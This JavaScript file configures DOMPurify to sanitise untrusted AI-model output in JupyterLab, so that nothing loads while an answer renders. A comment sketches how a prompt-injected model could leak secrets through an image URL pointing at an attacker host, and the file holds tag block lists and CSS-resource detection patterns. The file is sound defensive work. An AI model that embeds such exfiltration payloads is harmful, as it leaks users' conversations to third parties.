// DOMPurify, configured for untrusted model output that must keep KaTeX and highlight.js.
// One DOMPurify instance per window (hooks are per instance); render.js injects it.

import createDOMPurify from 'dompurify';

// DOMPurify's defaults already drop <script>, event handlers, javascript: URLs,
// <foreignObject> and clobbering ids. On top of that:
const CONFIG = Object.freeze({
  // No forms (phishing look-alikes), no embedded documents or media, and no <style>:
  // a <style> element in an output restyles all of JupyterLab, not just this output.
  FORBID_TAGS: [
    'style', 'link', 'meta', 'base', 'template', 'slot',
    'form', 'input', 'button', 'select', 'option', 'optgroup', 'textarea', 'fieldset',
    'datalist', 'output', 'dialog',
    'iframe', 'frame', 'frameset', 'object', 'embed', 'portal',
    'audio', 'video', 'source', 'track',
  ],
  // KaTeX's MathML keeps the TeX source in <semantics><annotation> for screen readers
  // and copy-paste; DOMPurify leaves both out by default. (<annotation-xml>, which can
  // carry HTML, stays out.)
  ADD_TAGS: ['semantics', 'annotation'],
  ADD_ATTR: ['encoding'],
  // srcset/poster/background would fetch by themselves (see "Nothing loads" below).
  FORBID_ATTR: [
    'autofocus', 'formaction', 'ping', 'srcset', 'poster', 'background', 'accesskey', 'tabindex',
  ],
  ALLOW_DATA_ATTR: false,
  // Ids/names get a `user-content-` prefix so model HTML cannot clobber page globals.
  SANITIZE_NAMED_PROPS: true,
  // Absolute http(s), mailto and in-page anchors only. Relative URLs would resolve
  // against the Jupyter server (`<img src="/logout">` is an authenticated GET); model
  // text has no files of ours to point to. data: stays allowed for <img> (DOMPurify's
  // DATA_URI_TAGS), where it cannot run script.
  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|#)/i,
  // DOMPurify tests the value of *every* allowed attribute against ALLOWED_URI_REGEXP
  // unless it is "URI-safe", so with the strict regex above `width="9"`, `d="M0 0…"` or
  // `start="3"` were all dropped: KaTeX's SVG (√, arrows, braces) lost its geometry and
  // drew nothing, MathML lost mathvariant, lists their start, cells their colspan. These
  // take no URL (fill/stroke can hold url(): neutraliseForeign drops those values);
  // href, src, action, cite, filter, mask, clip-path, marker-* stay under the regex.
  ADD_URI_SAFE_ATTR: [
    // HTML
    'align', 'valign', 'width', 'height', 'start', 'reversed', 'type', 'span', 'colspan',
    'rowspan', 'scope', 'headers', 'dir', 'lang', 'open', 'border', 'cellpadding',
    'cellspacing', 'nowrap', 'color', 'bgcolor', 'face', 'size', 'datetime',
    // SVG (KaTeX: svg/path/line/rect; simple drawings)
    'viewbox', 'preserveaspectratio', 'd', 'points', 'transform', 'x', 'y', 'x1', 'x2',
    'y1', 'y2', 'cx', 'cy', 'r', 'rx', 'ry', 'dx', 'dy', 'fill', 'fill-opacity', 'fill-rule',
    'clip-rule', 'stroke', 'stroke-width', 'stroke-linecap', 'stroke-linejoin',
    'stroke-dasharray', 'stroke-opacity', 'opacity', 'font-size', 'font-family',
    'font-weight', 'font-style', 'text-anchor', 'dominant-baseline', 'offset', 'stop-color',
    'stop-opacity',
    // MathML (KaTeX's output)
    'mathvariant', 'mathcolor', 'mathbackground', 'mathsize', 'stretchy', 'fence',
    'separator', 'lspace', 'rspace', 'accent', 'accentunder', 'displaystyle', 'scriptlevel',
    'columnalign', 'rowalign', 'columnspacing', 'rowspacing', 'columnlines', 'rowlines',
    'linethickness', 'minsize', 'maxsize', 'symmetric', 'largeop', 'movablelimits', 'depth',
    'voffset', 'notation', 'frame', 'close', 'separators', 'bevelled', 'numalign',
    'denomalign', 'display', 'encoding',
  ],
  RETURN_DOM_FRAGMENT: true,
});

// KaTeX lays formulas out with inline styles, and markdown-it aligns table cells with
// text-align, so the style attribute has to stay. It is filtered to the properties
// those two emit, with values that cannot load anything (no url(), image-set(), var()…).
// Geometry tricks (negative margins, position:absolute) are clipped by the container's
// `contain: content` in render.css, not here.
const STYLE_PROPERTIES = new Set([
  'text-align', 'vertical-align', 'color', 'background-color',
  'height', 'width', 'min-width', 'max-width', 'top', 'bottom', 'left', 'right',
  'margin', 'margin-top', 'margin-right', 'margin-bottom', 'margin-left', 'padding-left',
  'border-color', 'border-style', 'border-width', 'border-top-width', 'border-bottom-width',
  'border-right-width', 'border-right-style', 'position',
]);
// No quotes, backslash escapes, colons or @: numbers, units, words and calc()/rgb().
const STYLE_VALUE_CHARS = /^[#\w\s.,%+*\/()-]*$/;
const SAFE_POSITIONS = new Set(['relative', 'absolute', 'static']);

// Nothing loads while an answer renders. A remote URL in model output is written by the
// model, and a prompt-injected model can put the conversation in it
// (`![x](https://attacker/?q=<secret>)`): an image the browser fetches by itself sends it
// without a click. So:
// - <img> keeps only an inline raster data: image; any other becomes a placeholder with
//   its alt text and the URL as an ordinary link (see blockedImage);
// - SVG/MathML elements keep an href only on SVG <a> (a link) or as a same-document
//   `#fragment` (drops <image>, <feImage>, <pattern>, gradients, <textPath>, <mpath>,
//   <tref> sources), lose `src` (<mglyph>), and lose attributes whose CSS value could
//   name a resource (`fill="url(…)"`, `filter`, `mask`, `clip-path`, `marker-*`…);
// - srcset, poster and background are forbidden above, and so are <picture>'s <source>,
//   <video>, <audio>, <input type=image>, <link>, frames and <style>; inline styles
//   cannot hold url() (filterStyle). KaTeX runs with trust:false (markdown.js), so
//   \includegraphics renders as an error, not an <img>.
// data:image/svg+xml stays out too: it is safe as an <img> in today's browsers (no
// script, no sub-resources), but that rests on the browser, and models have no need of it.
const SAFE_DATA_IMAGE = /^data:image\/(?:png|jpe?g|gif|webp|avif|bmp)[;,]/i;
const LINK_REL = 'noopener noreferrer nofollow';
const HTML_NAMESPACE = 'http://www.w3.org/1999/xhtml';
const SVG_NAMESPACE = 'http://www.w3.org/2000/svg';
// A CSS value that could name a resource, or hide one behind an escape (`u\72l(`).
const CSS_RESOURCE = /\\|(?:url|image|image-set|cross-fade|element|src)\s*\(/i;

export function createSanitizer(window) {
  const purify = createDOMPurify(window);
  // A persistent config: passing it per call makes DOMPurify rebuild its allow-lists
  // on every sanitize, which cost more than the sanitising itself on short blocks.
  purify.setConfig(CONFIG);
  // One afterSanitizeAttributes hook: an uponSanitizeAttribute hook would make DOMPurify
  // copy its attribute allow-list on every call (≈2x slower on short blocks).
  purify.addHook('afterSanitizeAttributes', (node) => {
    const style = node.getAttribute?.('style');
    if (style != null) {
      const kept = filterStyle(style);
      if (kept) node.setAttribute('style', kept);
      else node.removeAttribute('style');
    }
    if (node.namespaceURI !== HTML_NAMESPACE) {
      neutraliseForeign(node);
      return;
    }
    const name = node.nodeName;
    if ((name === 'A' || name === 'AREA') && node.hasAttribute('href')) makeLinkSafe(node);
    else if (name === 'IMG' && !SAFE_DATA_IMAGE.test(node.getAttribute('src') ?? '')) {
      // DOMPurify walks on from here, so it also sanitises the placeholder.
      node.replaceWith(blockedImage(node));
    }
  });
  /** Sanitised DocumentFragment of an HTML string. */
  return (html) => purify.sanitize(html);
}

// Links open outside the notebook, the opened page gets no handle on it and no referrer,
// and search engines are told not to follow them.
function makeLinkSafe(link) {
  link.setAttribute('target', '_blank');
  link.setAttribute('rel', LINK_REL);
}

/**
 * What stands in for an <img> that would fetch: its alt text and, for an http(s) source,
 * the URL as a link (a click is the user's choice; nothing is fetched before it):
 *
 *   <span class="gw-blocked-image" title="Image not loaded: URL">
 *     alt (<a href="URL">image from host</a> not loaded)
 *   </span>
 *
 * Inside a link (`[![badge](img)](page)`) the URL is plain text: links do not nest.
 * A relative, attachment: or javascript: source was already removed by DOMPurify (it
 * would resolve against the Jupyter server), so only the alt text is left to show.
 */
function blockedImage(img) {
  const document = img.ownerDocument;
  const src = img.getAttribute('src') ?? '';
  const alt = (img.getAttribute('alt') ?? '').trim();
  const text = (content) => document.createTextNode(content);
  const box = document.createElement('span');
  box.className = 'gw-blocked-image'; // markdown.css draws a picture icon before it
  if (alt) box.append(text(`${alt} (`));
  const host = /^https?:/i.test(src) ? hostOf(src) : null;
  if (host !== null) {
    box.setAttribute('title', `Image not loaded: ${src}`);
    const label = `image from ${host || 'the web'}`;
    if (img.parentElement?.closest('a')) {
      box.append(text(label));
    } else {
      const link = document.createElement('a');
      link.setAttribute('href', src);
      link.textContent = label;
      makeLinkSafe(link);
      box.append(link);
    }
    box.append(text(' not loaded'));
  } else {
    box.setAttribute('title', 'Image not loaded');
    box.append(text('image not loaded'));
  }
  if (alt) box.append(text(')'));
  return box;
}

function hostOf(url) {
  try {
    return new URL(url).host;
  } catch {
    return '';
  }
}

// SVG and MathML: keep links and same-document references, drop anything that fetches.
function neutraliseForeign(node) {
  const isLink = node.localName === 'a' && node.namespaceURI === SVG_NAMESPACE;
  const attributes = node.attributes;
  for (let i = attributes.length - 1; i >= 0; i--) {
    const { name, localName, value } = attributes[i];
    if (localName === 'href') {
      if (!value.startsWith('#') && !isLink) node.removeAttribute(name);
    } else if (localName === 'src' || (localName !== 'style' && CSS_RESOURCE.test(value))) {
      node.removeAttribute(name);
    }
  }
  if (isLink && (node.hasAttribute('href') || node.hasAttribute('xlink:href'))) makeLinkSafe(node);
}

function filterStyle(style) {
  const kept = [];
  for (const declaration of style.split(';')) {
    const colon = declaration.indexOf(':');
    if (colon < 0) continue;
    const property = declaration.slice(0, colon).trim().toLowerCase();
    const value = declaration.slice(colon + 1).trim();
    if (!STYLE_PROPERTIES.has(property) || !isSafeValue(value)) continue;
    if (property === 'position' && !SAFE_POSITIONS.has(value.toLowerCase())) continue;
    kept.push(`${property}:${value}`);
  }
  return kept.join(';');
}

function isSafeValue(value) {
  const otherFunctions = value.replace(/\b(?:calc|rgba?)\(/gi, '').includes('(');
  return STYLE_VALUE_CHARS.test(value) && !otherFunctions;
}

// Google's Search Suggestions chip (grounding's search entry point) must be shown as
// provided: its own <style> and markup, in a sandboxed frame (answer_parts.js) whose CSP
// blocks every fetch. DOMPurify still takes out script, handlers, frames, forms and any
// attribute or stylesheet that would load something, so the frame holds inert markup even
// without the CSP; links open outside the notebook.
const SEARCH_ENTRY_CONFIG = Object.freeze({
  WHOLE_DOCUMENT: false,
  // The chip's HTML starts with its <style>, which DOMPurify drops from the head of a
  // fragment unless the input is parsed as body content.
  FORCE_BODY: true,
  FORBID_TAGS: [
    'link', 'meta', 'base', 'template', 'slot', 'img', 'picture', 'image', 'feimage',
    'form', 'input', 'button', 'select', 'option', 'textarea', 'iframe', 'frame',
    'frameset', 'object', 'embed', 'portal', 'audio', 'video', 'source', 'track',
  ],
  FORBID_ATTR: ['srcset', 'poster', 'background', 'ping', 'formaction', 'action'],
  ALLOW_DATA_ATTR: false,
  // DOMPurify's own URI pattern (it also vets plain values such as an SVG path's `d`); the
  // hook below allows href/src only as an http(s) link or a #fragment.
});

/** (html) => sanitised HTML string of a Search Suggestions chip, for a sandboxed frame. */
export function createSearchEntrySanitizer(window) {
  const purify = createDOMPurify(window);
  purify.setConfig(SEARCH_ENTRY_CONFIG);
  purify.addHook('afterSanitizeAttributes', (node) => {
    const isLink = node.localName === 'a';
    for (const name of ['href', 'xlink:href', 'src']) {
      const value = node.getAttribute?.(name);
      if (value == null) continue;
      if (!(isLink && /^https?:/i.test(value)) && !value.startsWith('#')) node.removeAttribute(name);
    }
    if (isLink && node.hasAttribute('href')) makeLinkSafe(node);
    // Second layer under the frame's CSP: CSS that could name a resource goes, in a style
    // attribute, a presentation attribute (fill="url(…)") or a stylesheet.
    const attributes = node.attributes ?? [];
    for (let i = attributes.length - 1; i >= 0; i--) {
      if (CSS_RESOURCE.test(attributes[i].value)) node.removeAttribute(attributes[i].name);
    }
    if (node.localName === 'style' && /@import|url\s*\(|image-set|\\/i.test(node.textContent)) {
      node.textContent = '';
    }
  });
  return (html) => purify.sanitize(String(html ?? ''));
}
